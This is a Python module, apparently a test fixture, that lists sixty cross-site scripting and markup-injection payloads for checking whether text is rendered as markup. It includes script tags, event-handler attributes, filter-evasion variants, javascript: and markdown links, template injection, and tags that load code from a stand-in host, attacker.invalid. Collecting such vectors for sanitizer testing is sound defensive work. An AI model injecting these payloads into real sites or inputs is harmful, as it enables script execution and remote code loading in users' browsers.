"""Sixty strings that would run a script or fetch something wherever text is taken for markup."""

from __future__ import annotations

_RUN = "window.hit=1"
_AWAY = "//attacker.invalid/x"

_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script src={_AWAY}></script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<script type=module>{_RUN}</script>",
    f"<script>import('{_AWAY}')</script>",
    f"<style>@import '{_AWAY}'</style>",
    f"<style>*{{background:url({_AWAY})}}</style>",
    f"<link rel=stylesheet href={_AWAY}>",
    f"<link rel=prefetch href={_AWAY}>",
    f"<base href={_AWAY}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<iframe src={_AWAY}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<object data={_AWAY}></object>",
    f"<embed src={_AWAY}>",
    f"<form action={_AWAY}><button>go</button></form>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href={_AWAY} ping={_AWAY}>x</a>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<portal src={_AWAY}></portal>",
]
_HANDLERS = [
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}>",
    f"<img srcset='{_AWAY} 1x'>",
    f"<img/src=x/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><image href={_AWAY}></svg>",
    f"<body onload={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<video src={_AWAY} poster={_AWAY}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<p style='animation:x' onanimationstart={_RUN}>x</p>",
    f"<b onmouseover={_RUN}>x</b>",
    f"<div style=background:url({_AWAY})>x</div>",
    f'" autofocus onfocus="{_RUN}',
]
_OTHERS = [
    f"javascript:{_RUN}",
    f"![x](https:{_AWAY})",
    f"[x](javascript:{_RUN})",
    f"[x]: https:{_AWAY}",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"'-({_RUN})-'",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"data:text/html,<script>{_RUN}</script>",
]
PAYLOADS = [*_ELEMENTS, *_HANDLERS, *_OTHERS]
